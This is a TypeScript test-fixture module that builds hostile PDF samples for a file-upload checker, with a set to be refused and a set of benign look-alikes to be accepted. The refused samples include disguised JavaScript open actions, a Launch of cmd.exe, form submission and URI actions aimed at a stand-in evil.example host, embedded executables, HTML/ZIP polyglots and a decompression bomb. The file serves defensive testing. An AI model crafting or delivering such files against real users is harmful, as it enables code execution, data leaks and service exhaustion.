// Hostile PDF files: active content in all its hiding places, other files inside, and structures that cost time.
import { deflateSync } from 'node:zlib'
import type { HostileFile } from './hostile-files.ts'
import { packedObjects, pdf, pdfStream } from './make-pdf.ts'

const JAVASCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

/** A saved revision appended behind the end, which replaces the catalog. */
function increment(file: Buffer, catalog: string): Buffer {
  const start = file.length
  const index = `xref\n1 1\n${String(start).padStart(10, '0')} 00000 n \n`
  const body = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n`
  const trailer = `trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${start + body.length}\n%%EOF\n`
  return Buffer.concat([file, Buffer.from(body + index + trailer)])
}

/** An object inside an image's data, to which only the index leads. */
function hiddenInStream(): Buffer {
  const file = pdf({
    catalog: '/OpenAction 6 0 R',
    objects: [pdfStream('/Subtype /Image', `%\n6 %x\n0 obj ${JAVASCRIPT} endobj\n`)],
  })
  const offset = file.indexOf('6 %x')
  const index = `xref\n6 1\n${String(offset).padStart(10, '0')} 00000 n \n`
  const trailer = `trailer\n<< /Size 7 /Root 1 0 R >>\nstartxref\n${file.length}\n%%EOF\n`
  return Buffer.concat([file, Buffer.from(index + trailer)])
}

const REFUSED: Record<string, Buffer> = {
  'js-open-action': pdf({ catalog: '/OpenAction 5 0 R', objects: [JAVASCRIPT] }),
  'js-inline': pdf({ catalog: `/OpenAction ${JAVASCRIPT}` }),
  'js-name-escaped': pdf({ catalog: '/OpenAction << /S /J#61vaScript /JS (1) >>' }),
  'js-key-escaped': pdf({ catalog: '/OpenAction << /#53 /JavaScript /#4a#53 (1) >>' }),
  'js-indirect-type': pdf({
    page: '/Annots [<< /A << /S 5 0 R /JS 6 0 R >> >>]',
    objects: ['/JavaScript', '(1)'],
  }),
  'js-name-tree': pdf({ catalog: `/Names << /JavaScript << /Names [(a) ${JAVASCRIPT}] >> >>` }),
  'js-in-object-stream': pdf({ catalog: '/OpenAction 9 0 R', objects: [packedObjects({ 9: JAVASCRIPT })] }),
  'js-in-increment': increment(pdf(), `/OpenAction ${JAVASCRIPT}`),
  'js-hidden-in-stream': hiddenInStream(),
  'js-next-action': pdf({ page: `/Annots [<< /A << /S /GoTo /D [3 0 R /Fit] /Next ${JAVASCRIPT} >> >>]` }),
  'js-comment-inside': pdf({ catalog: '/OpenAction << /S %\n/JavaScript%\n/JS (1) >>' }),
  'js-key-twice': pdf({ catalog: '/OpenAction << /S /GoTo /S /JavaScript >>' }),
  'js-stray-key': pdf({ catalog: '/OpenAction << 12 /S /JavaScript /JS (1) >>' }),
  'js-rendition': pdf({ page: '/Annots [<< /A << /S /Rendition /JS (1) >> >>]' }),
  launch: pdf({ page: '/Annots [<< /A << /S /Launch /F (cmd.exe) >> >>]' }),
  'launch-windows': pdf({ catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>' }),
  submit: pdf({ page: '/Annots [<< /A << /S /SubmitForm /F (http://evil.example) >> >>]' }),
  'import-data': pdf({ page: '/Annots [<< /A << /S /ImportData /F (x) >> >>]' }),
  'go-to-embedded': pdf({ page: '/Annots [<< /A << /S /GoToE >> >>]' }),
  'open-uri': pdf({ catalog: '/OpenAction << /S /URI /URI (http://evil.example) >>' }),
  'aa-page': pdf({ page: '/AA << /O << /S /URI /URI (http://evil.example) >> >>' }),
  'aa-catalog-indirect': pdf({
    catalog: '/AA 5 0 R',
    objects: ['<< /WC 6 0 R >>', '<< /S /Named /N /Print >>'],
  }),
  'embedded-file': pdf({ objects: [pdfStream('/Type /EmbeddedFile', 'MZ')] }),
  'embedded-names': pdf({
    catalog: '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>',
    objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>', pdfStream('', 'MZ')],
  }),
  'file-attachment': pdf({
    page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /FS 5 0 R >>]',
    objects: ['<< >>'],
  }),
  'rich-media': pdf({ page: '/Annots [<< /Subtype /RichMedia >>]' }),
  movie: pdf({ page: '/Annots [<< /Subtype /Movie >>]' }),
  xfa: pdf({ catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>', objects: [pdfStream('', '<xdp/>')] }),
  'external-stream': pdf({
    objects: [pdfStream('/F (\\\\\\\\evil.example\\\\x) /FFilter /FlateDecode', '')],
  }),
  encrypted: pdf({ trailer: '/Encrypt << /Filter /Standard /V 2 /R 3 /P -4 >>' }),
  'html-first': Buffer.concat([Buffer.from('<html><script>alert(1)</script></html>\n'), pdf()]),
  'junk-first': Buffer.concat([Buffer.from('\n\n'), pdf()]),
  'zip-tail': Buffer.concat([pdf(), Buffer.from('PK\x03\x04PK\x05\x06')]),
  'zip-hidden-before-end': pdf({
    objects: [
      pdfStream('', Buffer.concat([Buffer.from('PK\x05\x06'), Buffer.alloc(16), Buffer.from([0xff, 0xff])])),
    ],
  }),
  'html-tail': Buffer.concat([pdf(), Buffer.from('<script>alert(1)</script>')]),
  truncated: pdf().subarray(0, -30),
  'truncated-half': pdf().subarray(0, 200),
  'without-root': Buffer.from('%PDF-1.4\nxref\n0 0\ntrailer\n<< /Size 0 >>\nstartxref\n9\n%%EOF\n'),
  'without-pages': Buffer.from(pdf().toString('latin1').replace('/Pages 2 0 R', '/Pages 9 0 R'), 'latin1'),
  'flate-bomb': pdf({
    objects: [
      pdfStream(
        '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
        deflateSync(Buffer.alloc(200_000_000, 0x20)),
      ),
    ],
  }),
  'odd-filter': pdf({
    objects: [pdfStream('/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', '00')],
  }),
  nest: pdf({ objects: ['['.repeat(1_000_000)] }),
  'nest-dicts': pdf({ objects: ['<< /A '.repeat(200_000)] }),
  'overlapping-objects': pdf({ objects: ['1 0 obj ['.repeat(200_000)] }),
}

const ACCEPTED: Record<string, Buffer> = {
  plain: pdf(),
  increment: increment(pdf(), '/PageMode /UseNone'),
  'xref-loop': Buffer.from(pdf().toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Prev 15'), 'latin1'),
  'control-words': pdf({
    catalog:
      '/OpenAction [3 0 R /Fit] /Dests << /JavaScript [3 0 R /Fit] /AA [3 0 R /Fit] /EF [3 0 R /Fit] >>',
    page: '/Resources << /Font << /AA 5 0 R /JS 5 0 R /EF 5 0 R /Launch 5 0 R >> >>',
    objects: [
      '<< /Type /Font /Subtype /Type1 /BaseFont /JavaScript >>',
      '(/S /JavaScript /Launch /EmbeddedFiles /Encrypt)',
    ],
  }),
  link: pdf({
    page: '/Annots [<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.org/) >> >>]',
  }),
  'open-action-go-to': pdf({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' }),
  'packed-objects': pdf({ objects: [packedObjects({ 8: '<< /Title (a) >>', 9: '[1 2 3]' })] }),
}

export function hostileDocuments(): HostileFile[] {
  const files = (from: Record<string, Buffer>, expected: HostileFile['expected']) =>
    Object.entries(from).map(
      ([name, bytes]): HostileFile => ({ name: `pdf-${name}`, upload: 'a.pdf', bytes, expected }),
    )
  return [...files(REFUSED, 'refused'), ...files(ACCEPTED, 'accepted')]
}
